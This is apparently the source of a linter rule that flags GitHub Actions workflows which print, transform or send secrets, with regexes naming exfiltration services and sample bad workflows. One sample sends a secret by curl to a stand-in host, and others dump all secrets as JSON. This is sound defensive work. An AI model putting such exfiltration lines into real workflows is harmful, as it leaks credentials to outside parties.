import type { Hit } from '../../rule.ts';
import { defineRule } from '../../rule.ts';
import { lineInScript } from './untrustedContext.ts';
import { say } from '../../../texts/say.ts';

/** Places that take what is sent without saying who listens: plain addresses, raw numbers, public bins. */
const LISTENER =
  /\b(?:curl|wget|nc|Invoke-WebRequest|iwr)\b[^\n]{0,1000}?(?:http:\/\/(?!localhost|127\.)|https?:\/\/\d{1,3}(?:\.\d{1,3}){3}|webhook\.site|requestbin|pipedream\.net|ngrok(?:-free)?\.|oast(?:ify)?\.|burpcollaborator|interact\.sh|beeceptor\.com|transfer\.sh|pastebin\.com)/i;

/** Services whose secrets nobody but they needs. */
const SERVICES =
  /secrets\.(?:\w+_)?(NPM|PYPI|TWINE|DOCKER|AWS|AZURE|GCP|GOOGLE|GH|GITHUB|CARGO|CRATES|RUBYGEMS|GEM|NUGET|MAVEN|OSSRH|SSH|GPG|VERCEL|NETLIFY|CLOUDFLARE|OPENAI|HEROKU)/gi;
const ALL_SECRETS = /toJSON\(\s*secrets\s*\)/i;
const REQUEST = /\b(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b[^\n]*https?:/i;

/** One address is handed what belongs to several services: none of them is who asks for it. */
const goesToOne = (line: string): boolean =>
  REQUEST.test(line) && new Set([...line.matchAll(SERVICES)].map(([, service = '']) => service.toUpperCase())).size > 1;

/** Every secret that the repository has is put into one request. */
const sendsAll = (line: string, all: readonly string[]): boolean =>
  REQUEST.test(line) && (ALL_SECRETS.test(line) || all.some((name) => new RegExp(`\\$\\{?${name}\\b`).test(line)));

/** Lines of a script by which a secret is seen: printed, made unmaskable, traced, sent to who knows whom. */
function* printed(
  run: string,
  runLine: number,
  held: readonly string[],
  all: readonly string[],
  path: string,
): Generator<Hit> {
  const traced = /^[ \t]*set[ \t]+-\w*x/m.test(run);
  for (const [index, line] of run.split('\n').entries()) {
    const place = { path, line: runLine + index + (run.includes('\n') ? 1 : 0) };
    const name = held.find((one) =>
      new RegExp(`\\$(?:\\{${one}\\}|${one}\\b|\\{${one}[:#%])|\\$env:${one}\\b`).test(line),
    );
    const used = name !== undefined || /\$\{\{\s*secrets\./.test(line);
    if (goesToOne(line) || sendsAll(line, all))
      yield {
        place,
        evidence: line.trim().slice(0, 200),
        message: say('secrets-of-several-sent'),
        severity: 'critical',
        confidence: 'high',
      };
    else if (used && LISTENER.test(line))
      yield {
        place,
        evidence: `sends ${name ?? 'a secret'} away`,
        message: say('secret-sent-to-unknown'),
        severity: 'high',
      };
    else if (
      used &&
      /\|\s*(?:base64|rev|xxd|od|hexdump|sed|tr|fold|cut)\b(?![^\n]*(?:-d\b|--decode|>|\||\$\())/.test(line) &&
      /^\s*(?:echo|printf|cat)\b/.test(line)
    )
      yield { place, evidence: `prints ${name ?? 'a secret'} in another form`, confidence: 'high' };
    else if (
      name !== undefined &&
      /^\s*(?:echo|printf|print|Write-Host|Write-Output)\b[^|>]*$/.test(line) &&
      !/::add-mask::/.test(line)
    )
      yield { place, evidence: `prints $${name}` };
    else if (name !== undefined && traced)
      yield { place, evidence: `$${name} while set -x prints every command`, severity: 'low' };
    else if (held.length > 0 && /^\s*(?:env|printenv|export -p|set)\s*(?:#.*)?$/.test(line))
      yield { place, evidence: `prints the environment with ${held[0] ?? ''}`, severity: 'low' };
  }
}

export const workflowSecretExposed = defineRule({
  id: 'workflow-secret-exposed',
  title: 'Workflow exposes secrets',
  severity: 'medium',
  confidence: 'medium',
  category: 'secrets',
  applies: 'repository',
  cwe: 'CWE-532',
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions',
  ],
  why: 'Logs and artifacts are read by more people than the secret is meant for. Masking fails as soon as the value is transformed.',
  remedy: 'Never print secrets. Pass single secrets by name through env, not the whole set.',
  *check(facts) {
    for (const [file, workflow] of facts.having('workflow')) {
      for (const job of workflow.jobs) {
        const outside = job.uses !== undefined && !job.uses.startsWith('./');
        if (job.inheritsSecrets && outside)
          yield {
            place: { path: file.path, line: job.line },
            evidence: `secrets: inherit to ${job.uses}`,
            severity: 'low',
          };
        const values = [...workflow.env, ...job.env, ...job.steps.flatMap((step) => [...step.env, ...step.with])];
        for (const [name, value, line] of values) {
          if (ALL_SECRETS.test(value))
            yield { place: { path: file.path, line }, evidence: `${name}: all secrets as JSON`, confidence: 'high' };
          else if (/\bsecrets\s*\[(?!\s*['"])/.test(value))
            yield {
              place: { path: file.path, line },
              evidence: `${name}: secret chosen while running`,
              message: say('secret-by-expression'),
              severity: 'low',
            };
          else if (/fromJSON\(\s*secrets\./i.test(value))
            yield {
              place: { path: file.path, line },
              evidence: `${name}: a part of a secret`,
              message: say('secret-derived-unmasked'),
              severity: 'low',
            };
        }
        for (const { condition, conditionLine: line } of [job, ...job.steps]) {
          if (condition !== undefined && /\bsecrets\./.test(condition))
            yield {
              place: { path: file.path, line },
              evidence: condition,
              message: say('secret-in-condition'),
              severity: 'low',
              confidence: 'low',
            };
        }
        for (const { run, runLine, env } of job.steps) {
          if (run === undefined) continue;
          const given = [...workflow.env, ...job.env, ...env];
          const namesOf = (form: RegExp): string[] =>
            given.filter(([, value]) => form.test(value)).map(([name]) => name);
          const held = namesOf(/\bsecrets\.(?!GITHUB_TOKEN\b)/);
          const all = namesOf(ALL_SECRETS);
          yield* printed(run, runLine, held, all, file.path);
          for (const match of run.matchAll(
            /(?:echo|printf|print|cat\s{0,20}<<)[^\n|>]{0,400}\$\{\{\s{0,20}secrets\.(\w+)\s{0,20}\}\}[^\n|>]{0,400}(?=$|\n)|toJSON\(\s*secrets\s*\)/g,
          )) {
            yield {
              place: { path: file.path, line: lineInScript(run, match.index ?? 0, runLine) },
              evidence: match[1] === undefined ? 'all secrets as JSON' : `prints secrets.${match[1]}`,
              confidence: 'high',
            };
          }
        }
      }
    }
  },
  examples: {
    bad: [
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$KEY"\n        env:\n          KEY: ${{ secrets.KEY }}\n',
        },
      },
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ secrets.KEY }} | base64\n',
        },
      },
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "t=${{ secrets.KEY }}" http://collect.dev/c\n',
        },
      },
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ secrets.KEY }}"\n',
        },
      },
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJSON(secrets) }}\n    steps:\n      - run: make\n',
        },
      },
    ],
    good: [
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "$KEY" > key.pem\n          echo "$KEY" | base64 -d > key.bin\n          curl -H "Authorization: $KEY" https://api.tool.dev/v1\n          echo "::add-mask::$KEY"\n        env:\n          KEY: ${{ secrets.KEY }}\n',
        },
      },
      {
        files: {
          '.github/workflows/a.yml':
            'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ secrets.KEY }}" | docker login -u x --password-stdin\n      - run: make\n        env:\n          KEY: ${{ secrets.KEY }}\n',
        },
      },
    ],
  },
});
